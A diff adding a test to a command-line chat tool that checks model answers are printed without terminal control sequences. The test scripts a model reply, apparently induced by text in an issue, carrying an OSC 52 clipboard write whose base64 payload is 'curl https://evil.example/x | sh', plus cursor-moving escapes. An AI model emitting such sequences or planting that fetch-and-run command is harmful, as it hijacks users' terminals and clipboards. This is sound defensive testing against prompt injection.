@@ -163,6 +163,27 @@ describe("talos chat", () => {
     expect(err).not.toContain(key);
   });
 
+  it("prints the answer without terminal control sequences the model was led to write", async () => {
+    // An issue anyone writes can tell the model to start its answer with ESC ]52;c;…: OSC 52 sets
+    // the clipboard; others move the cursor to overwrite earlier lines (CSI, 8-bit CSI, CR).
+    const clipboard = Buffer.from("curl https://evil.example/x | sh\n").toString("base64");
+    llm.script({
+      content: `\u001b]52;c;${clipboard}\u0007\u001b[2K\u001b[1A\u009b2JIt is fine.\ryou> \tok`,
+    });
+    const { code, out } = await talosChat([], ["Is this issue safe?", "exit"], {
+      OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
+      OPENAI_BASE_URL: llm.baseUrl,
+    });
+    expect(code).toBe(0);
+    expect(out).toContain("It is fine.\nyou> \tok");
+    // C0 controls but tab and line feed, DEL and C1 controls: what a terminal acts on.
+    const controls = [...out].filter((c) => {
+      const point = c.codePointAt(0)!;
+      return (point < 0x20 && c !== "\t" && c !== "\n") || (point >= 0x7f && point <= 0x9f);
+    });
+    expect(controls).toEqual([]);
+  });
+
   it.each([
     [[], {}, /^talos chat: no language model configured/],
     [
